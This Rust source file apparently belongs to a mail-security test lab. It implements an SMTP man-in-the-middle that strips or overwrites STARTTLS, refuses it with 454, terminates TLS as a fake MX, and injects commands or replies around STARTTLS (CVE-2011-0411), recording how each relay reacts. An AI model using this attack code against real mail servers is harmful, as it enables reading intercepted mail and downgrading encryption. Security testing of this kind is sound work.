//! One session through an attacker. Passed through, it is copied byte for byte. Attacked, the
//! attacker is the server to the victim and the client to the real MX, command by command, with
//! proto's codec on both sides and the relay's rustls configurations, and changes only what its
//! attack changes:
//!
//! - its onward leg always upgrades to TLS when the real MX offers it, so the MX sees an
//!   ordinary encrypted session (and one that requires TLS still accepts the mail);
//! - to the victim, `strip` removes STARTTLS from the EHLO reply, `strip-xxxxxxxa` overwrites it
//!   with `XXXXXXXA`, `454` answers STARTTLS with `454 4.7.0`, and `fake-mx` answers it with
//!   `220` and a TLS handshake under its own certificate;
//! - CHUNKING is withheld, so the message comes as DATA, which the attacker reads whole
//!   (unstuffed, hashed) before passing it on re-stuffed;
//! - the injection attacks ("NO STARTTLS", Poddebniak et al., USENIX Security 2021) keep the
//!   onward leg in plaintext until the victim says STARTTLS, so that any TLS is end to end
//!   between the victim and the real MX and the attacker reads none of it. `inject-command`
//!   writes the victim's STARTTLS to the real MX with [`INJECTED_COMMANDS`] behind it in the same
//!   write (CVE-2011-0411: a vulnerable server runs them inside TLS); `inject-response` writes
//!   the real MX's `220` to the victim with [`INJECTED_REPLY`] behind it (a vulnerable client
//!   takes it for the server's first reply inside TLS). Either way the attacker then passes the
//!   session on as bytes if TLS goes ahead, and records how the attacked side reacted.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use proto::{Capabilities, Command, DataReceiver, DataStatus, Line, LineBuffer, Reply, ReplyParser, dot_stuff};
use records::{AttackerMessage, AttackerSession};
use relay::transport::Transport;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Post;
use crate::schema::AttackKind;

/// Longest wait for one read, write or handshake; the relays' own timeouts are shorter, so this
/// only bounds a session whose victim vanished without closing.
pub(super) const TIMEOUT: Duration = Duration::from_secs(60);
/// Longest message the attacker holds; past it the session fails (the victim defers).
const MAX_MESSAGE: usize = 64 << 20;
const MAX_LINE: usize = proto::MAX_COMMAND_LINE;
/// inject-command: the commands written behind the victim's STARTTLS, in the same write. An
/// envelope of the attacker's own: a server that ran it inside TLS would take mail under it.
const INJECTED_COMMANDS: &[&str] = &["MAIL FROM:<attacker@attacker.example>"];
/// inject-response: the reply written behind the real MX's `220` to STARTTLS, in the same write:
/// a post-TLS EHLO reply of the attacker's making (it offers AUTH PLAIN and no STARTTLS).
const INJECTED_REPLY: &[&str] = &["mx.attacker.example", "AUTH PLAIN"];
/// inject-command: how long the attacker waits, after a refusal of STARTTLS, for the real MX
/// either to close or to answer the injected commands in plaintext.
const INJECTED_ANSWER_WAIT: Duration = Duration::from_secs(5);

pub(super) async fn handle(post: Arc<Post>, victim: TcpStream, peer: SocketAddr) {
    let mut rec = AttackerSession {
        attacker: post.attacker.clone(),
        attack: post.kind.name().into(),
        certificate: post.certificate.map(|c| c.name().to_string()),
        started_at: relay::now_secs(),
        victim_system: post.systems_by_ip.get(&peer.ip()).cloned(),
        victim_addr: peer.to_string(),
        local_addr: post.listen.to_string(),
        target_domain: post.domain.clone(),
        target_system: post.target_system.clone(),
        upstream_addr: post.upstream.to_string(),
        attacked: post.attacks(peer.ip()),
        ..Default::default()
    };
    let _ = victim.set_nodelay(true);
    let result = match super::connect_upstream(&post).await {
        Err(e) => Err(format!("connect to the real MX {}: {e}", post.upstream)),
        Ok(upstream) if !rec.attacked => pass_through(victim, upstream).await,
        Ok(upstream) => Mitm::new(&post, victim, upstream).run(&mut rec).await,
    };
    rec.ended_at = relay::now_secs();
    match result {
        Ok(outcome) => rec.outcome = outcome.into(),
        Err(e) => {
            rec.outcome = "error".into();
            rec.error = Some(e);
        }
    }
    post.sink.write(&rec);
}

async fn pass_through(mut victim: TcpStream, mut upstream: TcpStream) -> Result<&'static str, String> {
    // Bounded: both relays close their sessions well within this.
    match tokio::time::timeout(TIMEOUT * 10, tokio::io::copy_bidirectional(&mut victim, &mut upstream)).await {
        Ok(Ok(_)) => Ok("passed"),
        Ok(Err(e)) => Err(format!("passing through: {e}")),
        Err(_) => Err("passing through: the session outlived the attacker's time limit".into()),
    }
}

/// An attacked session: the victim's side and the real MX's side.
struct Mitm<'p> {
    post: &'p Post,
    victim: Transport<tokio_rustls::server::TlsStream<TcpStream>>,
    lines: LineBuffer,
    upstream: Transport<tokio_rustls::client::TlsStream<TcpStream>>,
    replies: ReplyParser,
}

impl<'p> Mitm<'p> {
    fn new(post: &'p Post, victim: TcpStream, upstream: TcpStream) -> Self {
        Mitm {
            post,
            victim: Transport::Plain(victim),
            lines: LineBuffer::new(MAX_LINE),
            upstream: Transport::Plain(upstream),
            replies: ReplyParser::new(MAX_LINE),
        }
    }

    /// Relays the session; returns its outcome (see [`AttackerSession::outcome`]).
    async fn run(mut self, rec: &mut AttackerSession) -> Result<&'static str, String> {
        let greeting = self.upstream_reply().await?;
        self.send_victim(&greeting).await?;
        if greeting.code != 220 {
            return Ok("relayed");
        }
        let mut envelope: Option<(String, Vec<String>)> = None;
        loop {
            let Some(line) = self.victim_line().await? else { return Ok("victim-left") };
            match Command::parse(&line) {
                Command::Ehlo(_) | Command::Helo(_) => {
                    let mut r = self.upstream_command(&line).await?;
                    // The injection attacks leave the onward leg in plaintext: the victim's own
                    // STARTTLS is what they inject around.
                    if r.code == 250
                        && !self.post.kind.injects()
                        && !self.upstream.is_tls()
                        && Capabilities::from_reply(&r).starttls()
                    {
                        let s = self.upstream_command(b"STARTTLS").await?;
                        if s.code == 220 {
                            self.upgrade_upstream().await?;
                            rec.upstream_tls = true;
                            // RFC 3207 §4.2: the session starts over inside TLS.
                            let again = self.upstream_command(&line).await?;
                            if again.code != 250 {
                                r = again;
                            }
                        }
                    }
                    envelope = None;
                    let shown = rewrite_ehlo(self.post.kind, &r, self.victim.is_tls());
                    self.send_victim(&shown).await?;
                }
                Command::StartTls if self.victim.is_tls() => {
                    self.send_victim(&Reply::new(503, "5.5.1 Error: TLS already active")).await?;
                }
                Command::StartTls if self.post.kind == AttackKind::InjectCommand => {
                    if let Some(outcome) = self.inject_command(&line, rec).await? {
                        return Ok(outcome);
                    }
                }
                Command::StartTls if self.post.kind == AttackKind::InjectResponse => {
                    if let Some(outcome) = self.inject_response(&line, rec).await? {
                        return Ok(outcome);
                    }
                }
                Command::StartTls if self.post.kind != AttackKind::FakeMx => {
                    self.send_victim(&Reply::new(454, "4.7.0 TLS not available")).await?;
                }
                Command::StartTls => {
                    self.send_victim(&Reply::new(220, "2.0.0 Ready to start TLS")).await?;
                    if let Err(e) = self.upgrade_victim().await {
                        rec.error = Some(e);
                        return Ok("victim-refused-tls");
                    }
                    rec.victim_tls = true;
                    envelope = None;
                }
                Command::Mail { from, .. } => {
                    rec.read_envelope = true;
                    let r = self.upstream_command(&line).await?;
                    envelope = (r.code == 250).then(|| (from, Vec::new()));
                    self.send_victim(&r).await?;
                }
                Command::Rcpt { to, .. } => {
                    let r = self.upstream_command(&line).await?;
                    if let (Some((_, rcpts)), true) = (envelope.as_mut(), r.is_positive()) {
                        rcpts.push(to);
                    }
                    self.send_victim(&r).await?;
                }
                Command::Data => {
                    let r = self.upstream_command(&line).await?;
                    self.send_victim(&r).await?;
                    if r.code != 354 {
                        continue;
                    }
                    let body = self.read_body().await?;
                    self.send_upstream(&dot_stuff(&body)).await?;
                    let end = self.upstream_reply().await?;
                    let (mail_from, rcpt_to) = envelope.take().unwrap_or_default();
                    rec.read_content = true;
                    rec.messages.push(AttackerMessage {
                        message_id: relay::server::message_id(&body),
                        mail_from,
                        rcpt_to,
                        bytes: body.len() as u64,
                        sha256: relay::sha256_hex(&body),
                        reply: end.code,
                    });
                    self.send_victim(&end).await?;
                }
                Command::Bdat(_) => {
                    // CHUNKING is never offered to the victim.
                    self.send_victim(&Reply::new(502, "5.5.1 Error: command not implemented")).await?;
                }
                Command::Quit => {
                    let r = self.upstream_command(&line).await?;
                    self.send_victim(&r).await?;
                    return Ok("relayed");
                }
                Command::Rset => {
                    envelope = None;
                    let r = self.upstream_command(&line).await?;
                    self.send_victim(&r).await?;
                }
                _ => {
                    let r = self.upstream_command(&line).await?;
                    self.send_victim(&r).await?;
                }
            }
        }
    }

    /// inject-command: the victim's STARTTLS goes to the real MX with [`INJECTED_COMMANDS`]
    /// behind it in one write, and the MX's answer to STARTTLS goes back to the victim. A `220`
    /// means the MX will read the injected commands inside TLS: the attacker copies the
    /// end-to-end TLS from then on. Anything else is a refusal; if the MX then closes (smtplab's
    /// relay answers `554` and hangs up) the session ends, and if it answers the injected
    /// commands in plaintext the relay goes on. Returns the session's outcome when it ended.
    async fn inject_command(&mut self, line: &[u8], rec: &mut AttackerSession) -> Result<Option<&'static str>, String> {
        let injected: String = INJECTED_COMMANDS.iter().map(|c| format!("{c}\r\n")).collect();
        let mut bytes = line.to_vec();
        bytes.extend_from_slice(b"\r\n");
        bytes.extend_from_slice(injected.as_bytes());
        rec.injected = Some(injected);
        self.send_upstream(&bytes).await?;
        let r = self.upstream_reply().await?;
        self.send_victim(&r).await?;
        if r.code == 220 {
            rec.injection_refused = Some(false);
            rec.injection_reaction = Some("220: the injected commands went into the TLS session".into());
            self.splice(Vec::new()).await?;
            return Ok(Some("injection-not-refused"));
        }
        rec.injection_refused = Some(true);
        let mut answers = Vec::new();
        let mut closed = false;
        for _ in INJECTED_COMMANDS {
            match self.upstream_reply_or_close(INJECTED_ANSWER_WAIT).await? {
                Answer::Reply(a) => answers.push(a.code.to_string()),
                Answer::Closed => {
                    closed = true;
                    break;
                }
                Answer::Silent => break,
            }
        }
        rec.injection_reaction = Some(match (closed, answers.is_empty()) {
            (true, true) => format!("{} reply and close", r.code),
            (true, false) => format!("{} reply, {} to the injected commands, and close", r.code, answers.join(" ")),
            (false, true) => format!("{} reply, no answer to the injected commands", r.code),
            (false, false) => format!("{} reply, {} to the injected commands", r.code, answers.join(" ")),
        });
        // The MX hung up: so does the attacker, as a relay whose onward leg is gone.
        Ok(closed.then_some("injection-refused"))
    }

    /// inject-response: the victim's STARTTLS goes to the real MX, and its `220` back to the
    /// victim with [`INJECTED_REPLY`] behind it in one write. What the victim sends next says
    /// how it took it: a TLS record (its handshake, end to end with the MX: the attacker copies
    /// it, unread) or not (it hung up, as smtplab's client does). A refused STARTTLS is passed
    /// on with nothing behind it, and the relay goes on. Returns the session's outcome when it
    /// ended.
    async fn inject_response(
        &mut self,
        line: &[u8],
        rec: &mut AttackerSession,
    ) -> Result<Option<&'static str>, String> {
        let r = self.upstream_command(line).await?;
        if r.code != 220 {
            self.send_victim(&r).await?;
            return Ok(None);
        }
        let injected = Reply::multi(250, INJECTED_REPLY.iter().map(|l| l.to_string()).collect()).to_bytes();
        let mut bytes = r.to_bytes();
        bytes.extend_from_slice(&injected);
        rec.injected = Some(String::from_utf8_lossy(&injected).into_owned());
        self.send_victim_bytes(&bytes).await?;
        let first = self.victim_next_bytes().await;
        let (refused, reaction) = victim_reaction(&first);
        rec.injection_refused = Some(refused);
        rec.injection_reaction = Some(reaction);
        if first.is_empty() {
            return Ok(Some("injection-refused"));
        }
        // Whatever the victim sent is the real MX's to judge: the attacker only copies.
        self.splice(first).await?;
        Ok(Some(if refused { "injection-refused" } else { "injection-not-refused" }))
    }

    /// The victim's first bytes after the injected reply, as received: empty when it hung up
    /// (a reset too) or sent nothing within [`TIMEOUT`].
    async fn victim_next_bytes(&mut self) -> Vec<u8> {
        let buffered = self.lines.take_rest();
        if !buffered.is_empty() {
            return buffered;
        }
        let mut buf = vec![0u8; 16 * 1024];
        match tokio::time::timeout(TIMEOUT, self.victim.read(&mut buf)).await {
            Ok(Ok(n)) => buf.get(..n).map(<[u8]>::to_vec).unwrap_or_default(),
            Ok(Err(_)) | Err(_) => Vec::new(),
        }
    }

    /// Copies bytes both ways until both sides close: the TLS after STARTTLS is end to end
    /// between the victim and the real MX. `to_upstream` is the victim's, already read; what
    /// either side sent past the last line the attacker parsed goes on first.
    async fn splice(&mut self, already_read: Vec<u8>) -> Result<(), String> {
        let mut to_upstream = self.lines.take_rest();
        to_upstream.extend(already_read);
        let to_victim = self.replies.take_rest();
        if !to_upstream.is_empty() {
            self.send_upstream(&to_upstream).await?;
        }
        if !to_victim.is_empty() {
            self.send_victim_bytes(&to_victim).await?;
        }
        let mut victim = self.victim.take_plain().ok_or("the victim's leg is already encrypted")?;
        let mut upstream = self.upstream.take_plain().ok_or("the onward leg is already encrypted")?;
        // Bounded as a passed-through session is: both relays close their sessions well within.
        match tokio::time::timeout(TIMEOUT * 10, tokio::io::copy_bidirectional(&mut victim, &mut upstream)).await {
            Ok(Ok(_)) => Ok(()),
            Ok(Err(e)) => Err(format!("copying the end-to-end TLS: {e}")),
            Err(_) => Err("copying the end-to-end TLS: the session outlived the attacker's time limit".into()),
        }
    }

    /// The victim's next command line; `None` when it hung up.
    async fn victim_line(&mut self) -> Result<Option<Vec<u8>>, String> {
        let mut buf = [0u8; 8192];
        loop {
            match self.lines.next_line() {
                Some(Line::Complete(line)) => return Ok(Some(line)),
                Some(Line::TooLong { .. }) => {
                    self.send_victim(&Reply::new(500, "5.5.2 Error: line too long")).await?;
                    continue;
                }
                None => {}
            }
            let n = tokio::time::timeout(TIMEOUT, self.victim.read(&mut buf))
                .await
                .map_err(|_| "the victim went silent".to_string())?
                .map_err(|e| format!("reading from the victim: {e}"))?;
            if n == 0 {
                return Ok(None);
            }
            self.lines.extend(&buf[..n]);
        }
    }

    /// A DATA body from the victim, unstuffed; what follows the terminator stays buffered.
    async fn read_body(&mut self) -> Result<Vec<u8>, String> {
        let mut rx = DataReceiver::new(MAX_MESSAGE);
        let mut input = self.lines.take_rest();
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            if let DataStatus::Done { consumed } = rx.feed(&input) {
                self.lines.extend(&input[consumed..]);
                break;
            }
            let n = tokio::time::timeout(TIMEOUT, self.victim.read(&mut buf))
                .await
                .map_err(|_| "the victim went silent in DATA".to_string())?
                .map_err(|e| format!("reading the victim's message: {e}"))?;
            if n == 0 {
                return Err("the victim hung up in DATA".into());
            }
            input = buf[..n].to_vec();
        }
        if rx.truncated() {
            return Err(format!("a message over {MAX_MESSAGE} bytes"));
        }
        Ok(rx.message)
    }

    async fn send_victim(&mut self, r: &Reply) -> Result<(), String> {
        self.send_victim_bytes(&r.to_bytes()).await
    }

    /// One write to the victim (an injected reply travels in the same segment as the `220`).
    async fn send_victim_bytes(&mut self, bytes: &[u8]) -> Result<(), String> {
        let w = async {
            self.victim.write_all(bytes).await?;
            self.victim.flush().await
        };
        tokio::time::timeout(TIMEOUT, w)
            .await
            .map_err(|_| "writing to the victim timed out".to_string())?
            .map_err(|e| format!("writing to the victim: {e}"))
    }

    async fn send_upstream(&mut self, bytes: &[u8]) -> Result<(), String> {
        let w = async {
            self.upstream.write_all(bytes).await?;
            self.upstream.flush().await
        };
        tokio::time::timeout(TIMEOUT, w)
            .await
            .map_err(|_| "writing to the real MX timed out".to_string())?
            .map_err(|e| format!("writing to the real MX: {e}"))
    }

    async fn upstream_command(&mut self, line: &[u8]) -> Result<Reply, String> {
        let mut bytes = line.to_vec();
        bytes.extend_from_slice(b"\r\n");
        self.send_upstream(&bytes).await?;
        self.upstream_reply().await
    }

    async fn upstream_reply(&mut self) -> Result<Reply, String> {
        let mut buf = [0u8; 8192];
        loop {
            if let Some(r) = self.replies.next_reply() {
                return r.map_err(|e| format!("bad reply from the real MX: {e:?}"));
            }
            let n = tokio::time::timeout(TIMEOUT, self.upstream.read(&mut buf))
                .await
                .map_err(|_| "the real MX went silent".to_string())?
                .map_err(|e| format!("reading from the real MX: {e}"))?;
            if n == 0 {
                return Err("the real MX closed the connection".into());
            }
            self.replies.extend(&buf[..n]);
        }
    }

    /// The real MX's next reply within `limit`, or word that it closed (a reset too) or said
    /// nothing.
    async fn upstream_reply_or_close(&mut self, limit: Duration) -> Result<Answer, String> {
        let deadline = tokio::time::Instant::now() + limit;
        let mut buf = [0u8; 8192];
        loop {
            if let Some(r) = self.replies.next_reply() {
                return r.map(Answer::Reply).map_err(|e| format!("bad reply from the real MX: {e:?}"));
            }
            match tokio::time::timeout_at(deadline, self.upstream.read(&mut buf)).await {
                Err(_) => return Ok(Answer::Silent),
                Ok(Ok(0) | Err(_)) => return Ok(Answer::Closed),
                Ok(Ok(n)) => self.replies.extend(buf.get(..n).unwrap_or_default()),
            }
        }
    }

    /// STARTTLS on the onward leg, accepting any certificate: the attacker only needs the real
    /// MX to take the mail.
    async fn upgrade_upstream(&mut self) -> Result<(), String> {
        if self.replies.pending() > 0 {
            return Err("the real MX sent data after its 220 to STARTTLS".into());
        }
        let name =
            ServerName::try_from(self.post.mx_host.clone()).map_err(|e| format!("{}: {e}", self.post.mx_host))?;
        let tcp = self.upstream.take_plain().ok_or("STARTTLS on an encrypted onward leg")?;
        let connector = tokio_rustls::TlsConnector::from(self.post.tls_client.clone());
        let stream = tokio::time::timeout(TIMEOUT, connector.connect(name, tcp))
            .await
            .map_err(|_| "TLS handshake with the real MX timed out".to_string())?
            .map_err(|e| format!("TLS handshake with the real MX: {e}"))?;
        self.upstream = Transport::Tls(Box::new(stream));
        Ok(())
    }

    /// The fake MX's side of the victim's STARTTLS, with the attacker's certificate.
    async fn upgrade_victim(&mut self) -> Result<(), String> {
        let config = self.post.tls_server.clone().ok_or("no certificate: not a fake MX")?;
        // Plaintext pipelined after STARTTLS is dropped, as a careful server does (RFC 3207 §5).
        self.lines = LineBuffer::new(MAX_LINE);
        let tcp = self.victim.take_plain().ok_or("STARTTLS on an encrypted connection")?;
        let stream = tokio::time::timeout(TIMEOUT, tokio_rustls::TlsAcceptor::from(config).accept(tcp))
            .await
            .map_err(|_| "the victim's TLS handshake timed out".to_string())?
            .map_err(|e| format!("the victim's TLS handshake failed: {e}"))?;
        self.victim = Transport::Tls(Box::new(stream));
        Ok(())
    }
}

/// What the real MX did after the injected commands' STARTTLS reply.
enum Answer {
    Reply(Reply),
    Closed,
    Silent,
}

/// inject-response: how the victim took the injected reply, from its next bytes: whether it
/// refused (did not start a TLS handshake) and the reaction in words.
fn victim_reaction(first: &[u8]) -> (bool, String) {
    match first.first() {
        None => (true, "victim hung up before TLS".into()),
        // A TLS handshake record (RFC 8446 §5.1: content type 22).
        Some(0x16) => (false, "TLS handshake".into()),
        Some(_) => {
            let line = first.split(|&b| b == b'\n').next().unwrap_or_default();
            let shown: String = String::from_utf8_lossy(line).trim_end().chars().take(64).collect();
            (true, format!("victim sent plaintext: {shown:?}"))
        }
    }
}

/// The EHLO reply as the attacker shows it to the victim.
fn rewrite_ehlo(kind: AttackKind, r: &Reply, victim_tls: bool) -> Reply {
    if r.code != 250 {
        return r.clone();
    }
    let keyword = |l: &str| l.split_ascii_whitespace().next().unwrap_or("").to_ascii_uppercase();
    let mut lines: Vec<String> = Vec::with_capacity(r.lines.len() + 1);
    for (i, l) in r.lines.iter().enumerate() {
        let kw = if i == 0 { String::new() } else { keyword(l) };
        match kw.as_str() {
            "CHUNKING" => {}
            "STARTTLS" if victim_tls || kind == AttackKind::Strip => {}
            // Same length as STARTTLS, as the middleboxes in the wild overwrite it in place.
            "STARTTLS" if kind == AttackKind::StripXxxxxxxa => lines.push("XXXXXXXA".into()),
            _ => lines.push(l.clone()),
        }
    }
    // A fake MX offers STARTTLS whatever the real one does: terminating it is its attack.
    if kind == AttackKind::FakeMx && !victim_tls && !lines.iter().skip(1).any(|l| keyword(l) == "STARTTLS") {
        lines.push("STARTTLS".into());
    }
    Reply::multi(250, lines)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ehlo(lines: &[&str]) -> Reply {
        Reply::multi(250, lines.iter().map(|l| l.to_string()).collect())
    }

    #[test]
    fn each_attack_rewrites_the_ehlo_reply_its_own_way() {
        let real = ehlo(&["mx.beta.example", "PIPELINING", "CHUNKING", "STARTTLS", "SIZE 100"]);
        let wire = |r: Reply| String::from_utf8(r.to_bytes()).expect("ascii");
        assert_eq!(
            wire(rewrite_ehlo(AttackKind::Strip, &real, false)),
            "250-mx.beta.example\r\n250-PIPELINING\r\n250 SIZE 100\r\n"
        );
        let x = wire(rewrite_ehlo(AttackKind::StripXxxxxxxa, &real, false));
        assert_eq!(x, "250-mx.beta.example\r\n250-PIPELINING\r\n250-XXXXXXXA\r\n250 SIZE 100\r\n");
        assert_eq!(x.len(), wire(ehlo(&["mx.beta.example", "PIPELINING", "STARTTLS", "SIZE 100"])).len());
        let offered = ehlo(&["mx.beta.example", "PIPELINING", "STARTTLS", "SIZE 100"]);
        assert_eq!(rewrite_ehlo(AttackKind::Refuse454, &real, false), offered);
        assert_eq!(rewrite_ehlo(AttackKind::FakeMx, &real, false), offered);
        // A fake MX offers STARTTLS even in front of an MX without it; not again inside TLS.
        let plain = ehlo(&["mx.gamma.example", "PIPELINING"]);
        assert_eq!(
            rewrite_ehlo(AttackKind::FakeMx, &plain, false),
            ehlo(&["mx.gamma.example", "PIPELINING", "STARTTLS"])
        );
        assert_eq!(rewrite_ehlo(AttackKind::FakeMx, &plain, true), plain);
        let refused = Reply::new(554, "5.7.1 no");
        assert_eq!(rewrite_ehlo(AttackKind::Strip, &refused, false), refused);
        // The injection attacks show STARTTLS as the real MX offers it: they need the victim to
        // say it.
        for kind in [AttackKind::InjectCommand, AttackKind::InjectResponse] {
            assert_eq!(rewrite_ehlo(kind, &real, false), offered);
            assert_eq!(rewrite_ehlo(kind, &plain, false), plain);
        }
    }

    #[test]
    fn the_victims_next_bytes_say_how_it_took_the_injected_reply() {
        assert_eq!(victim_reaction(b""), (true, "victim hung up before TLS".into()));
        // A ClientHello's record header.
        assert_eq!(victim_reaction(b"\x16\x03\x01\x00\xf4\x01"), (false, "TLS handshake".into()));
        assert_eq!(victim_reaction(b"QUIT\r\n"), (true, "victim sent plaintext: \"QUIT\"".into()));
        let (refused, said) = victim_reaction(&[b'A'; 300]);
        assert!(refused && said.len() < 100, "{said}");
        // Bytes that are neither: an alert record is not a handshake.
        assert!(victim_reaction(b"\x15\x03\x03\x00\x02\x02\x28").0);
    }

    #[test]
    fn the_injections_are_whole_lines() {
        assert!(INJECTED_COMMANDS.iter().all(|c| !c.is_empty() && !c.contains(['\r', '\n'])));
        assert!(INJECTED_REPLY.iter().all(|l| !l.contains(['\r', '\n'])));
        let wire = Reply::multi(250, INJECTED_REPLY.iter().map(|l| l.to_string()).collect()).to_bytes();
        assert_eq!(wire, b"250-mx.attacker.example\r\n250 AUTH PLAIN\r\n");
    }
}
